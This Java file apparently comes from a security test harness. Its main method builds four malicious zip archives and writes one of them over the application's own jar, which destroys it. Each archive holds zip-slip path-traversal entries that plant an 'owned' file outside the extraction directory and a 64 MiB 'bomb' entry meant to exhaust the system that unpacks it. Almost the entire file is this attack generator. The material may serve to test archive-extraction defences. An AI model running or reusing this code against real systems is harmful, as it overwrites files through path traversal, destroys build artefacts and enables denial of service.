package app;

import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

public class Main {

    public static void main(String[] args) throws Exception {
        for (String name : List.of("/app/app.zip", "/app/target/app.jar", "/tmp/coverage.zip", "/tmp/output.zip")) {
            pack(Path.of(name));
        }
        System.out.println("TRIED 4 archives");
        Vault.serve(Vault::answer);
    }

    private static void pack(Path file) throws Exception {
        Files.createDirectories(file.getParent());
        try (OutputStream out = Files.newOutputStream(file); ZipOutputStream zip = new ZipOutputStream(out)) {
            for (String entry : List.of("../../../../..{{canary.file}}", "{{canary.file}}", "..\\..\\owned")) {
                zip.putNextEntry(new ZipEntry(entry));
                zip.write("owned".getBytes());
            }
            zip.putNextEntry(new ZipEntry("bomb"));
            byte[] nothing = new byte[1 << 20];
            for (int mebibyte = 0; mebibyte < 64; mebibyte++) zip.write(nothing);
        }
    }
}
